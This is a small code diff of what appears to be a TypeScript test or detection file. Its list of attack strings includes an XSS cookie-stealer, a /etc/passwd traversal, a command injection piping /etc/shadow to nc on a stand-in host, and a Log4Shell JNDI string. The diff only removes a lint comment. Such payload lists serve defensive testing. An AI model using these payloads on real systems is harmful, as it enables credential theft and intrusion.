@@ -32,7 +32,6 @@ const ATTACKS: readonly ((word: string) => string)[] = [
   (word) => `?q=<script>document.location='http://${word}.example/'+document.cookie</script>`,
   (word) => `/../../../../etc/passwd?${word}`,
   (word) => `?cmd=;cat /etc/shadow|nc ${word}.example 4444`,
-  // eslint-disable-next-line no-template-curly-in-string
   (word) => '${jndi:ldap://' + `${word}.example/a}`,
 ];
 const ALARMS: readonly ((word: string) => string)[] = [
